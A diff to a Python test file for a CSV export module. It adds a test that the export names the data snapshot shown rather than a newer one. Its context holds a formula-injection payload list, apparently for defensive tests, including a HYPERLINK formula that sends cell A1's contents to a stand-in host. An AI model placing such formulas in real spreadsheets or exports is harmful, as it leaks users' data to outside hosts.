@@ -7,7 +7,9 @@ from datetime import datetime
 import pandas as pd
 import pytest
 
-from governance import exporting
+from governance import exporting, filters, queries
+from governance.components.tables import csv_of
+from tests.factory import County
 
 PAYLOADS = [
     '=HYPERLINK("http://x/?"&A1,"点我")',
@@ -88,3 +90,16 @@ def test_notes_stand_below_the_rows_and_an_empty_frame_keeps_its_headings() -> N
     )
     assert read(content) == [["案件编号"], ["统计期 2026-06-01 至 2026-07-01（不含）"], ["口径"]]
     assert content.count(b"\r\n") == 3
+
+
+def test_a_file_names_the_snapshot_that_was_shown_also_when_another_was_published(county: County) -> None:
+    county.region("R1")
+    county.case(region_code="R1")
+    shown = county.publish()
+    filter = filters.default(queries.current_store())
+    frame = queries.run("cases_by_month", filter)
+    newer = county.publish("2026-07-02")
+
+    text = csv_of(frame, "cases_by_month", filter, shown).decode("utf-8-sig")
+
+    assert shown.id in text and "数据截至 2026-07-01" in text and newer.id not in text
